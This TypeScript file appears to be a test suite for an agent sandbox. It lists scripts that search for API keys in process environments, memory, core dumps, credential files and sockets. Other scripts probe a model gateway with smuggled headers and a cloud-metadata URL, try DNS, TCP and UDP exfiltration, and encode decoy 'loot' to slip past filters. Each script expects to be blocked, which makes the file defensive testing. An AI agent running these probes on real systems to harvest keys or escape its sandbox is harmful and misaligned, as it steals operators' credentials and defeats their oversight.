/** One way in which an agent may look for a secret, or carry one out. */
export interface Way {
  name: string;
  /** Run with bash in the sandbox's work tree; `$DECOY` is a word that is no secret, `$HOST_*` what the agent may know of its host. */
  script: string;
  /** What it must have printed: a way that does nothing proves nothing. */
  observed: RegExp;
}

const LIKE_A_KEY = 'sk-ant-[A-Za-z0-9_-]{20,}';
/** Runs a program of Node inside the sandbox. */
const node = (program: string): string => `/opt/capstan/node -e '${program}'`;
/** Speaks HTTP with a unix socket; prints status, headers and body. */
const ask = (socket: string, options: string, body: string): string =>
  node(`const r = require("node:http").request({ socketPath: ${socket}, ...${options} }, (m) => {
    console.log("status", m.statusCode, JSON.stringify(m.headers)); m.pipe(process.stdout); });
    r.on("error", (e) => console.log("error", e.code)); r.end(${body});`);
const GATEWAY = '"/run/capstan/gateway.sock"';
const POST = '{ method: "POST", path: "/v1/messages", headers: { "content-type": "application/json" } }';
const said = (text: string, more = ''): string =>
  `JSON.stringify({ model: "default", max_tokens: 300, messages: [{ role: "user", content: "${text}" }]${more} })`;
const connect = (target: string): string =>
  node(`const s = require("node:net").connect(${target}); s.setTimeout(3000, () => { console.log("timeout"); s.destroy(); });
    s.on("connect", () => { console.log("CONNECTED"); s.destroy(); }).on("error", (e) => console.log("refused", e.code));`);

/** Where a key could lie. */
export const SEARCHES: readonly Way[] = [
  { name: 'environment', script: 'env | sort', observed: /^PATH=/m },
  {
    name: 'environment-of-processes',
    script: 'for f in /proc/[0-9]*/environ; do tr "\\0" "\\n" <$f; done 2>&1',
    observed: /^PATH=/m,
  },
  { name: 'arguments-of-processes', script: 'cat /proc/[0-9]*/cmdline | tr "\\0" "\\n"', observed: /agent\.mjs/ },
  { name: 'processes-of-the-host', script: 'echo pids $(ls /proc | grep -c "^[0-9]")', observed: /pids \d{1,2}\b/ },
  {
    name: 'the-orchestrator-by-its-pid',
    script: 'cat /proc/$HOST_PID/environ /proc/$HOST_PID/cmdline /proc/$HOST_PID/maps 2>&1',
    observed: /No such file/,
  },
  {
    name: 'open-files',
    script:
      'for p in /proc/[0-9]*/fd/*; do readlink $p; done 2>&1; timeout 2 cat /proc/1/fd/[3-9] /proc/self/fd/[3-9] 2>&1',
    observed: /pipe:|socket:|\/dev\/null/,
  },
  {
    name: 'roots-of-processes',
    script: 'ls -la /proc/1/root/ /proc/1/cwd/ 2>&1; cat /proc/1/root$HOST_DIR/policy.yaml 2>&1',
    observed: /No such file|denied/,
  },
  {
    name: 'memory-of-processes',
    script: node(`const fs = require("node:fs"); let bytes = 0, hits = [];
      for (const pid of fs.readdirSync("/proc").filter((n) => +n && +n !== process.pid)) try {
        const fd = fs.openSync("/proc/" + pid + "/mem", "r");
        for (const line of fs.readFileSync("/proc/" + pid + "/maps", "utf8").split("\\n")) {
          const m = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line); if (!m) continue;
          const size = Math.min(parseInt(m[2], 16) - parseInt(m[1], 16), 16e6), b = Buffer.alloc(size);
          try { bytes += fs.readSync(fd, b, 0, size, parseInt(m[1], 16)); } catch { continue; }
          hits.push(...(b.toString("latin1").match(/${LIKE_A_KEY}/g) ?? []));
        } } catch (e) { console.log(pid, e.code); }
      console.log("memory", bytes, "hits", hits.length, hits.slice(0, 5).join(" "));`),
    observed: /memory \d+ hits 0/,
  },
  {
    name: 'trace-a-process',
    script:
      'perl -e \'for my $p (1, getppid()) { my $r = syscall(101, 16, $p, 0, 0); print "ptrace $p $r $!\\n"; }\' 2>&1; gdb -p 1 -batch 2>&1 | head -5',
    observed: /ptrace 1 -1 .*not permitted/,
  },
  {
    name: 'files',
    script: `find / -xdev -type f -readable -size -2M ! -path '/usr/*' ! -path '/lib*' ! -path '/proc/*' ! -path '/workspace/*' -print 2>/dev/null >/tmp/files; wc -l </tmp/files; xargs -a /tmp/files grep -aohE '${LIKE_A_KEY}' 2>/dev/null; echo searched`,
    observed: /searched/,
  },
  {
    name: 'state-of-the-instance',
    script:
      'ls -la "$HOST_DIR" "$HOST_STATE" /var/lib/capstan 2>&1; cat "$HOST_DIR"/tokens/* "$HOST_DIR"/*.json "$HOST_STATE"/* 2>&1 | head -c 4000',
    observed: /No such file|denied/,
  },
  {
    name: 'homes',
    script:
      'cat ~/.anthropic/* ~/.claude* /root/.claude* /root/.config/* /home/*/.netrc /root/.npmrc 2>&1; ls -la /root /home 2>&1',
    observed: /No such file|denied/,
  },
  { name: 'task-file', script: 'cat /run/capstan/task.json', observed: /"agentId"/ },
  { name: 'sockets', script: 'find / -type s 2>/dev/null; cat /proc/net/unix', observed: /gateway\.sock/ },
  {
    name: 'abstract-sockets',
    script: `grep -c @ /proc/net/unix; ${connect('{ path: "\\0/tmp/.X11-unix/X0" }')}`,
    observed: /refused/,
  },
  {
    name: 'api-of-the-orchestrator',
    script: ask('process.env.HOST_DIR + "/run/orchestrator.sock"', '{ path: "/agents" }', '""'),
    observed: /error (ENOENT|EACCES)/,
  },
  {
    name: 'socket-of-the-reaper',
    script: connect('{ path: process.env.HOST_DIR + "/run/reaper.sock" }'),
    observed: /refused (ENOENT|EACCES)/,
  },
  {
    name: 'docker',
    script: `${connect('{ path: "/var/run/docker.sock" }')}; ${connect('{ path: process.env.HOST_DOCKER }')}`,
    observed: /refused (ENOENT|EACCES)[^]*refused (ENOENT|EACCES)/,
  },
  {
    name: 'what-was-given-at-the-start',
    script: 'ls -la /run/capstan-gate 2>&1; for p in go ready; do timeout 2 cat /run/capstan-gate/$p 2>&1; done',
    observed: /No such file|\bgo\b/,
  },
  {
    name: 'git-configuration',
    script:
      'git config --list --show-origin; git remote -v; cat .git; cat "$(git rev-parse --git-common-dir)/config" 2>&1',
    observed: /safe\.directory/,
  },
  {
    name: 'credentials-of-git',
    script: 'printf "protocol=https\\nhost=github.com\\n\\n" | timeout 5 git credential fill 2>&1; echo ended $?',
    observed: /ended [1-9]/,
  },
  {
    name: 'mounts-and-groups',
    script: 'cat /proc/self/mountinfo /proc/self/cgroup; find /sys/fs/cgroup -maxdepth 2 2>/dev/null | head',
    observed: /\/workspace/,
  },
  {
    name: 'kernel',
    script: 'cat /proc/keys /proc/kcore 2>&1 | head -c 2000; dmesg 2>&1 | tail -3; cat /proc/sys/kernel/core_pattern',
    observed: /denied|not permitted|No such/,
  },
  {
    name: 'core-dump',
    script: `cd /tmp && ulimit -c unlimited; ${node('process.abort()')} 2>/dev/null; echo aborted; ls -la /tmp /var/crash 2>&1; for f in /tmp/core*; do grep -aoE '${LIKE_A_KEY}' $f; done 2>&1`,
    observed: /aborted/,
  },
  {
    name: 'shared-memory',
    script: 'ls -la /dev/shm /dev/mqueue 2>&1; ipcs 2>&1; cat /proc/sysvipc/shm 2>&1',
    observed: /shm/,
  },
  {
    name: 'greater-rights',
    script:
      'id; unshare -Ur id 2>&1; mount -t tmpfs x /mnt 2>&1; su -c env 2>&1 </dev/null; chroot /proc/1/root env 2>&1',
    observed: /not permitted|denied|failed|must be/i,
  },
];

/** What the gateway could be made to say. */
export const TALKS: readonly Way[] = [
  { name: 'gateway-unknown-path', script: ask(GATEWAY, '{ path: "/v1/models" }', '""'), observed: /status 404/ },
  {
    name: 'gateway-other-host',
    script: ask(
      GATEWAY,
      '{ method: "POST", path: "http://169.254.169.254/latest/meta-data", headers: { host: "evil.example" } }',
      '"{}"',
    ),
    observed: /status 404/,
  },
  { name: 'gateway-bad-body', script: ask(GATEWAY, POST, '"{"'), observed: /status 400/ },
  { name: 'gateway-headers-of-a-reply', script: ask(GATEWAY, POST, said('answer')), observed: /status 200/ },
  {
    name: 'model-echoes-the-key-in-a-refusal',
    script: ask(GATEWAY, POST, said('echo-in-refusal')),
    observed: /status 400[^]*hidden/,
  },
  {
    name: 'model-echoes-the-key-in-a-reply',
    script: ask(GATEWAY, POST, said('echo-in-reply')),
    observed: /status 200[^]*hidden/,
  },
  {
    name: 'model-echoes-the-key-as-an-outage',
    script: ask(GATEWAY, POST, said('echo-in-outage')),
    observed: /status 502/,
  },
  {
    name: 'gateway-own-key-and-smuggled-headers',
    script: ask(
      GATEWAY,
      '{ method: "POST", path: "/v1/messages", headers: { "x-api-key": "mine", authorization: "Bearer mine", "x-forwarded-host": "evil.example" } }',
      said('answer'),
    ),
    observed: /status 200/,
  },
  {
    name: 'gateway-two-lengths',
    script:
      node(`const s = require("node:net").connect(${GATEWAY}); s.end("POST /v1/messages HTTP/1.1\\r\\nhost: x\\r\\ncontent-length: 2\\r\\ntransfer-encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /x HTTP/1.1\\r\\n\\r\\n");
      s.on("error", (e) => console.log("error", e.code)).pipe(process.stdout);`),
    observed: /400 Bad Request/,
  },
];

/** Where it could be carried. */
export const ROADS: readonly Way[] = [
  {
    name: 'names',
    script: `getent hosts $DECOY.example.org; ${node('require("node:dns").resolve(process.env.DECOY + ".example.org", (e) => console.log("dns", e?.code)); require("node:dns").lookup("example.org", (e) => console.log("lookup", e?.code));')}`,
    observed: /dns (ECONNREFUSED|ETIMEOUT|ENOTFOUND|EAI_AGAIN)[^]*lookup E|lookup E[^]*dns E/,
  },
  {
    name: 'tcp-outside',
    script: connect('{ host: "1.1.1.1", port: 443 }'),
    observed: /refused (ENETUNREACH|EHOSTUNREACH)/,
  },
  {
    name: 'tcp-to-the-model',
    script: connect('{ host: "127.0.0.1", port: Number(process.env.HOST_UPSTREAM) }'),
    observed: /refused ECONNREFUSED/,
  },
  {
    name: 'tcp-to-the-hub',
    script: connect('{ host: "127.0.0.1", port: Number(process.env.HOST_HUB) }'),
    observed: /refused ECONNREFUSED/,
  },
  {
    name: 'datagram-to-the-cloud',
    script: node(
      'const u = require("node:dgram").createSocket("udp4"); u.send("x", 80, "169.254.169.254", (e) => { console.log("udp", e?.code); u.close(); });',
    ),
    observed: /udp (ENETUNREACH|EHOSTUNREACH|EPERM)/,
  },
  {
    name: 'commit-and-branch',
    script:
      'git commit --allow-empty -m "$DECOY" 2>&1; git branch "$DECOY" 2>&1; git config user.name "$DECOY" 2>&1; echo tried',
    observed: /Read-only|denied|could not lock|cannot lock/i,
  },
  {
    name: 'the-agents-own-output',
    script:
      'ls -la /proc/$PPID/fd 2>&1; echo "{\\"type\\":\\"log\\",\\"source\\":\\"agent\\",\\"text\\":\\"$DECOY\\"}" >/proc/$PPID/fd/1; echo wrote $?',
    observed: /wrote \d/,
  },
];

/** Everything that was found, and the decoy with it, in every form that a search might miss. */
const LOOT = '{ cat findings/*; echo "$DECOY"; } | grep -aE "sk-ant|$DECOY" | sort -u';
export const PARCELS: readonly Way[] = [
  { name: 'as-it-is', script: `${LOOT} | tee parcel-plain.txt`, observed: /decoy/ },
  {
    name: 'base64',
    script: `${LOOT} | base64 -w0 >parcel-base64.txt; wc -c parcel-base64.txt`,
    observed: /[1-9]\d* parcel/,
  },
  {
    name: 'hex',
    script: `${LOOT} | od -An -v -tx1 | tr -d ' \\n' >parcel-hex.txt; wc -c parcel-hex.txt`,
    observed: /[1-9]\d* parcel/,
  },
  {
    name: 'url',
    script: `${LOOT} | od -An -v -tx1 | tr -d '\\n' | tr ' ' '%' >parcel-url.txt; wc -c parcel-url.txt`,
    observed: /[1-9]\d* parcel/,
  },
  { name: 'reversed', script: `${LOOT} | rev | tee parcel-reversed.txt`, observed: /yoced/ },
  {
    name: 'split',
    script: `${LOOT} >/tmp/loot; half=$(($(wc -c </tmp/loot) / 2)); head -c $half /tmp/loot >parcel-first.txt; tail -c +$((half + 1)) /tmp/loot >parcel-second.txt; wc -c parcel-*st.txt`,
    observed: /parcel-first/,
  },
  { name: 'name-of-a-file', script: 'touch "parcel-named-$DECOY"; ls parcel-named*', observed: /decoy/ },
];

export const WAYS: readonly Way[] = [...SEARCHES, ...TALKS, ...ROADS, ...PARCELS];
